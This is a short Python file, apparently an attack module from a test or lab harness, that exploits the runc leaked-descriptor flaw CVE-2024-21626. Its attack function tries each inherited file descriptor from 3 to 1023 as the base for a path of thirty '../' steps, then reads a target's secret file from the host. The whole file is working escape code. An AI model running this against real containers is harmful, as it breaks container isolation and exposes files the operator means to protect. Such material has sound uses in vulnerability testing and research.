"""Try every inherited descriptor as the start of a path."""

from __future__ import annotations

import os

ORIGIN = "runc, CVE-2024-21626: a folder descriptor left open."
SEEN = "secret"


def attack(target):
    for descriptor in range(3, 1024):
        try:
            path = "../" * 30 + target["secret_file"].lstrip("/")
            return os.read(os.open(path, os.O_RDONLY, dir_fd=descriptor), 100).decode()
        except OSError:
            continue
